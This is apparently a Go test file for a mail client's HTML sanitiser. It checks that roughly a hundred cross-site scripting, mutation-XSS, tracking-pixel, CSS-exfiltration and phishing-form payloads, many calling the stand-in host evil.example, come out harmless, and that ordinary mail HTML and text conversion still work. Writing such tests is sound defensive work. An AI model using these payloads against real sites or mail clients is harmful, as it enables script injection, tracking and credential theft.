package message

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// payloads want to run, to fetch, or to take the page for themselves.
var payloads = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/xss src=x>`, `<<script>alert(1);//<</script>`, `<script`, `<script x`,
	`<img src=x onerror=alert(1)>`, `<img src="cid:a" onerror=alert(1)>`, `<img/src="cid:a"/onload=alert(1)>`, `<img src="http://evil.example/p.gif">`, `<img src=//evil.example/p.gif>`, `<img src="cid:a" srcset="http://evil.example/p.gif 2x">`,
	`<img src="data:image/svg+xml;base64,PHN2Zy8+">`, `<img src="javascript:alert(1)">`, `<img lowsrc="http://evil.example/">`, `<img dynsrc="http://evil.example/">`, `<img src='cid:a"onerror="alert(1)'>`, `<img src="cid:a&quot; onerror=&quot;alert(1)">`,
	"<img src=`http://evil.example/`>", `<image src="http://evil.example/">`, `<input type=image src="http://evil.example/">`, `<picture><source srcset="http://evil.example/"><img src="cid:a"></picture>`,
	`<body onload=alert(1)>`, `<body background="http://evil.example/">`, `<table background="http://evil.example/"><td background="http://evil.example/">`, `<div style="background:url(http://evil.example/)">`, `<div style="behavior:url(#x)">`, `<p style="position:fixed;top:0;left:0;width:100%;height:100%">`,
	`<style>@import url(http://evil.example/x.css);</style>`, `<style>input[value^=a]{background:url(http://evil.example/a)}</style>`, `<link rel=stylesheet href="http://evil.example/x.css">`, `<link rel=prefetch href="http://evil.example/">`, `<base href="http://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=http://evil.example/">`, `<iframe src="http://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frame src=x>`, `<frameset onload=alert(1)>`, `<object data="http://evil.example/"></object>`, `<embed src="http://evil.example/">`, `<applet code=x>`,
	`<form action="http://evil.example/"><input name=password><button>Sign in</button></form>`, `<button formaction="javascript:alert(1)">x</button>`, `<textarea autofocus onfocus=alert(1)>`, `<select onfocus=alert(1) autofocus>`, `<isindex type=image src=1 onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="java&Tab;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="/logout">x</a>`, `<a href="//evil.example">x</a>`, `<a href="../admin">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="http://ok.example" ping="http://evil.example/">x</a>`, `<a href="http://ok.example" target=_self onclick=alert(1)>x</a>`, `<a href="blob:x">x</a>`, `<a href="https:logout">x</a>`, `<a href="http:/logout">x</a>`, `<a href="https:\\evil.example">x</a>`, `<a href="https:///logout">x</a>`, `<a href="cid:a">x</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1)>`, `<svg><use href="data:x"></use></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><image href="http://evil.example/"></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<math href="javascript:alert(1)">x</math>`, `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noembed><img src=x onerror=alert(1)></noembed>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`, `<template><img src=x onerror=alert(1)></template>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<title><img src=x onerror=alert(1)></title>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE x [<!ENTITY y "z">]>`, `<comment><img src="</comment><img src=x onerror=alert(1)//">`,
	`<video src="http://evil.example/" autoplay onplay=alert(1)>`, `<audio src="http://evil.example/">`, `<video poster="http://evil.example/">`, `<track src="http://evil.example/">`, `<bgsound src="http://evil.example/">`, `<marquee onstart=alert(1)>`, `<details open ontoggle=alert(1)>`, `<dialog open>`, `<keygen autofocus onfocus=alert(1)>`,
	`<div id="main" class="banner" name="x">x</div>`, `<a name="top" id="session">x</a>`, `<div hx-get="/requests" hx-trigger="load">x</div>`, `<div data-hx-get="/logout">x</div>`, `<div contenteditable>x</div>`, `<div accesskey="x" tabindex=1>x</div>`, `<td colspan="99999999">x`, `<ol start="javascript">`,
	`<p lang="&quot; onclick=alert(1)">x</p>`, `<p dir="x">y</p>`, `<font color=red face="url(http://evil.example)">x</font>`, `<blockquote cite="http://evil.example/">x</blockquote>`, `<q cite="javascript:alert(1)">x</q>`, `<del cite="http://evil.example/">x</del>`, `<img src="cid:a" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>`, `<img src="cid:a" longdesc="http://evil.example/">`, `<html manifest="http://evil.example/">`,
	"<a href=\"http://ok.example\x00\" onclick=\"alert(1)\">x</a>", "\x00<script>alert(1)</script>", "<\x00script>alert(1)</script>", "<scri\u2028pt>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\xbc\xf3\xe3script>", strings.Repeat("<div>", 5000) + "<script>alert(1)</script>",
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<table><tr><td><style></td></tr><img src=x onerror=alert(1)></style>`, `<p><svg><desc></p><img src=x onerror=alert(1)></desc>`, `<select><template><img src=x onerror=alert(1)></template></select>`,
}

// allowedTags are those that a page may hold of a mail.
var allowedTags = strings.Fields("html head body p br div span b i u s em strong strike del ins small big sub sup tt code pre samp kbd var blockquote q cite abbr address center hr h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table thead tbody tfoot tr td th caption figure figcaption a img")

// harm finds what a browser would do with sanitised HTML that it must not.
func harm(t *testing.T, s string) string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(s))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode || n.Type == html.DoctypeNode {
			return "a comment"
		}
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains(allowedTags, n.Data) || n.Namespace != "" {
			return "the element " + n.Data
		}
		for _, a := range n.Attr {
			v := strings.ToLower(strings.TrimSpace(a.Val))
			switch a.Key {
			case "href":
				if !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "mailto:") && !strings.HasPrefix(v, "tel:") {
					return "a link to " + a.Val
				}
			case "src":
				if v != "/files/a" {
					return "an image from " + a.Val
				}
			case "colspan", "rowspan", "dir", "lang", "start", "title", "alt", "width", "height", "rel", "target":
			default:
				return "the attribute " + a.Key
			}
		}
	}
	return ""
}

func imageOf(cid string) string {
	if cid == "a" {
		return "/files/a"
	}
	return ""
}

// T27, T28
func TestSanitisedHTMLIsHarmless(t *testing.T) {
	t.Parallel()
	for _, p := range payloads {
		for _, s := range []string{p, "<div>" + p + "</div>text", "<table><tr><td>" + p, "<blockquote><p>" + p + "</blockquote>", "<svg>" + p, "<math><mtext>" + p, "<noscript>" + p, "<style>" + p, "<textarea>" + p, "<!--" + p, "<a href='" + p + "'>x</a>", `<img alt="` + p + `" src="cid:a">`, `<p title='` + p + `'>`} {
			safe, ok := Sanitise(s, imageOf)
			if !ok {
				continue // then the text is shown
			}
			if bad := harm(t, safe); bad != "" {
				t.Errorf("%q becomes %q: %s", cut(s, 200), cut(safe, 300), bad)
			}
			again, _ := Sanitise(strings.ReplaceAll(safe, "/files/a", "cid:a"), imageOf)
			if bad := harm(t, again); bad != "" {
				t.Errorf("%q, once more, becomes %q: %s", cut(s, 200), cut(again, 300), bad)
			}
			if fresh, rest := FoldHTML(s); fresh+rest != s {
				t.Errorf("%q: something is gone", cut(s, 200))
			}
		}
	}
}

// TestHonestHTMLStays: what people write is still there.
func TestHonestHTMLStays(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`<p>お世話に<b>なって</b>おります。</p>`:                     `<p>お世話に<b>なって</b>おります。</p>`,
		`<table><tr><td colspan="2">a</td></tr></table>`: `<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>`,
		`<img src="cid:a" alt="shot" width="10">`:        `<img src="/files/a" alt="shot" width="10">`,
		`<img src="CID:%61" alt="shot">`:                 `<img src="/files/a" alt="shot">`,
		`<img src="cid:gone" alt="a &lt; b">`:            `a &lt; b`,
		`<p dir="rtl">שלום</p>`:                          `<p dir="rtl">שלום</p>`,
		`<pre>a &lt; b</pre>`:                            `<pre>a &lt; b</pre>`,
		`<ul><li>a<li>b</ul>`:                            `<ul><li>a</li><li>b</li></ul>`,
		`<p style="color:red" class="MsoNormal">a</p>`:   `<p>a</p>`,
		`<div>not closed`:                                `<div>not closed</div>`,
		`a &amp; b < c`:                                  `a &amp; b &lt; c`,
	} {
		if got, ok := Sanitise(in, imageOf); !ok || got != want {
			t.Errorf("%s becomes %s, want %s", in, got, want)
		}
	}
	got, _ := Sanitise(`<a href="https://ok.example/?a=1&amp;b=2" onclick="x">ok</a>`, imageOf)
	if !strings.HasPrefix(got, `<a href="https://ok.example/?a=1&amp;b=2"`) || !strings.Contains(got, "noreferrer") || !strings.Contains(got, "noopener") || !strings.HasSuffix(got, ">ok</a>") {
		t.Errorf("a link becomes %s", got)
	}
	if _, ok := Sanitise(strings.Repeat("a", MaxHTML+1), imageOf); ok {
		t.Error("HTML without end is shown")
	}
}

// TestHTMLText reads HTML as mailers write it.
func TestHTMLText(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"<p>a</p><p>b</p>": "a\n\nb", "<div>a</div><div>b</div>": "a\nb", "a<br>b<br><br>c": "a\nb\n\nc", "<ul><li>a<li>b</ul>": "- a\n- b",
		"<b>a</b>b <i>c</i>": "ab c", "a\n  b": "a b", "a&nbsp;&amp;&lt;b": "a &<b", "<pre>a\n  b</pre>": "a\n  b",
		`<a href="https://x.example/y">here</a>`: "here <https://x.example/y>", `<a href="https://x.example/">x.example</a>`: "x.example", `<a href="mailto:a@b.example">a@b.example</a>`: "a@b.example",
		"<blockquote>a<blockquote>b</blockquote></blockquote>c": "> a\n>\n> > b\n>\nc", "<style>p{}</style><script>x</script>a": "a", "<table><tr><td>a<td>b<tr><td>c</table>": "a\tb\nc",
		`<img src="cid:x" alt="shot">`: "[shot]", `<img src="cid:x">`: "[cid:x]", `<img src="http://t.example/1.gif">`: "", "a<hr>b": "a\n________________________________\nb",
		"<svg>a</svg>b": "ab", "<object>never closed": "never closed", "<title>t</title>a": "a", "<!-- c -->a": "a", "": "",
	} {
		if got := strings.TrimSpace(HTMLText(in)); got != want {
			t.Errorf("%s reads %q, want %q", in, got, want)
		}
	}
}
